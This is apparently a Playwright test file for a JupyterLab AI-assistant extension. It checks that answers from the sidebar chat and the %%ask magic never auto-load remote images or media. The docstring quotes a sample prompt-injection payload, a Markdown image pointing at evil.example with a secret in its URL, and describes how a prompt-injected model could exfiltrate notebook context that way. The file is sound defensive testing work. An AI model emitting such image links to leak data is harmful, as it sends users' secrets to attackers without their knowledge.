"""An answer cannot make the browser fetch a remote URL without a click.

A prompt-injected model could write ``![x](http://evil.example/leak?secret=...)``: if the
browser loaded it, the notebook's context would leave the machine with no click. Every form in
helpers/hostile_media.py points at a loopback server that records requests; none may arrive,
in the sidebar (a scripted chat WebSocket) or under a ``%%ask`` cell run in the notebook (a
real kernel whose client answers with the same text). Remote images show as links instead;
clicking one opens it in a new tab. data: images still render.
"""

from __future__ import annotations

import json
import re

import pytest
from helpers.hostile_media import CASES, LeakServer, answer, scripted_client_cell
from ui_helpers import new_page, open_lab, open_notebook, wait_until_idle

pytestmark = pytest.mark.timeout(300)
SIDEBAR = "#jupyter-tinyai-sidebar"


@pytest.fixture
def leak():
    with LeakServer() as server:
        yield server


def _recording_page(browser, lab, leak):
    """A page that notes every request it makes to the leak server (even one that fails)."""
    page = new_page(browser, lab)
    seen = []
    page.context.on("request", lambda request: seen.append(request.url) if request.url.startswith(leak.origin) else None)
    page.seen = seen
    return page


def _let_everything_load(page, root):
    """Bring every part of the answer into view (lazy images and media load there), then wait
    until the images that may load have: the relative image's request (to the Jupyter server)
    is the sign that the others had their chance too."""
    root.evaluate("n => n.querySelectorAll('*').forEach(el => el.scrollIntoView({block: 'center'}))")
    page.wait_for_function(
        """root => [...root.querySelectorAll('img')].every(img => img.complete)
                   && performance.getEntriesByType('resource').some(e => e.name.includes('missing-local.png'))""",
        arg=root.element_handle(),
    )
    wait_until_idle(page)  # and every task those loads queued has run


def _assert_inert(page, root, leak, *, data_images: int, linked: tuple, rel: set):
    _let_everything_load(page, root)
    assert page.seen == [], f"the browser asked the leak server for {page.seen}"
    assert leak.requests == [], f"the leak server got {leak.requests}"
    assert page.evaluate("() => window.__pwned") is None
    # the allowed images are still images
    dots = root.locator("img[src^='data:image/png']")
    assert dots.count() == data_images
    assert all(w > 0 for w in dots.evaluate_all("imgs => imgs.map(i => i.naturalWidth)"))
    assert root.locator("img[src*='missing-local.png']").count() == 1
    # the remote ones are links, named by their host
    links = root.locator("a", has_text="click to open")
    placeholder = links.filter(has_text="chart").first
    assert placeholder.get_attribute("href") == f"{leak.origin}/md-image?secret=s3cr3t"
    assert placeholder.get_attribute("target") == "_blank"
    assert rel <= set((placeholder.get_attribute("rel") or "").split())
    host = leak.origin.split("://")[1]
    assert f"image from {host}" in placeholder.text_content()
    shown = " ".join(links.evaluate_all("links => links.map(a => a.href)"))
    for name in linked:
        assert f"/{name}" in shown, (name, shown)
    # a click opens the image: the one request, made by the user
    with page.context.expect_page() as opened:
        placeholder.click()
    opened.value.wait_for_load_state()
    assert [r for r in leak.requests if r != "/favicon.ico"] == ["/md-image?secret=s3cr3t"]
    opened.value.close()


def test_sidebar_answer_loads_no_remote_media(browser, lab, leak):
    text = answer(leak.origin)

    def scripted_server(ws):
        def on_message(raw):
            msg = json.loads(raw)
            if msg.get("type") != "chat":
                return
            rid = msg["id"]
            ws.send(json.dumps({"type": "start", "id": rid}))
            for i in range(0, len(text), 23):  # streamed in pieces: URLs split across tokens
                ws.send(json.dumps({"type": "token", "id": rid, "text": text[i : i + 23]}))
            ws.send(json.dumps({"type": "done", "id": rid, "text": text, "stats": {"generated_tokens": 30, "finish_reason": "stop"}}))

        ws.on_message(on_message)

    page = _recording_page(browser, lab, leak)
    try:
        page.route_web_socket(re.compile(r".*/tinyai/chat.*"), scripted_server)
        open_lab(page, lab)
        page.keyboard.press("Control+Shift+Y")
        sidebar = page.locator(SIDEBAR)
        sidebar.wait_for(state="visible")
        sidebar.locator(".jp-TinyAI-new-chat").click()
        box = sidebar.locator(".jp-TinyAI-input")
        box.fill("show me the chart")
        box.press("Enter")
        answer_node = sidebar.locator(".jp-TinyAI-message-assistant")
        answer_node.locator(".jp-TinyAI-stats").wait_for()
        page.wait_for_function(f"() => !document.querySelector('{SIDEBAR} .jp-TinyAI-message.jp-mod-rendering')")
        markdown = answer_node.locator(".jp-TinyAI-markdown")
        markdown.filter(has_text="html-data-image").wait_for()
        linked = ("md-reference", "md-shortcut", "md-protocol-relative", "html-img", "html-video-src", "html-audio", "html-input-image")
        _assert_inert(page, markdown, leak, data_images=3, linked=linked, rel={"noopener", "noreferrer"})
        # an image inside a link is only named (a click there opens that link)
        inner = markdown.locator("a[href='https://example.org/'] span.jp-TinyAI-remote-media")
        assert inner.text_content() == f"inner (image from {leak.origin.split('://')[1]}, not loaded)"
    finally:
        page.context.close()


def test_ask_output_in_a_notebook_loads_no_remote_media(browser, lab, leak):
    """The magics' Markdown output is rendered by JupyterLab itself, trusted (it comes from
    this session's kernel): only the text the magics write keeps it inert."""
    name = "remote-media.ipynb"
    sources = [scripted_client_cell(answer(leak.origin)), "%%ask\nshow me the chart"]
    content = {
        "cells": [{"cell_type": "code", "metadata": {}, "source": s, "outputs": [], "execution_count": None} for s in sources],
        "metadata": {"kernelspec": {"name": "python3", "display_name": "Python 3", "language": "python"}},
        "nbformat": 4, "nbformat_minor": 5,
    }
    lab.api("PUT", f"/api/contents/{name}", {"type": "notebook", "format": "json", "content": content})
    page = _recording_page(browser, lab, leak)
    try:
        cells = open_notebook(page, lab, name).locator(".jp-Notebook .jp-Cell")
        for cell in (cells.first, cells.nth(1)):
            cell.locator(".jp-InputPrompt").click()
            page.keyboard.press("Shift+Enter")
            cell.locator(".jp-InputPrompt", has_text=re.compile(r"\[\d+\]")).wait_for(timeout=120_000)
        output = cells.nth(1).locator(".jp-OutputArea-output[data-mime-type='text/markdown']")
        output.filter(has_text="scripted").wait_for(timeout=120_000)  # the footer: the answer is complete
        # raw HTML shows as text there (the output is not sanitized): only the Markdown images are links
        linked = ("md-reference", "md-collapsed", "md-shortcut", "md-protocol-relative", "md-backslashes", "md-entity-scheme")
        _assert_inert(page, output, leak, data_images=1, linked=linked, rel={"noopener"})
    finally:
        page.context.close()


def test_every_case_has_a_distinct_path():
    paths = [re.findall(r"\{leak\}(/[\w-]+)|\{hostport\}(/[\w-]+)", t) for t in CASES.values()]
    flat = [p for found in paths for pair in found for p in pair if p]
    assert len(flat) == len(set(flat))
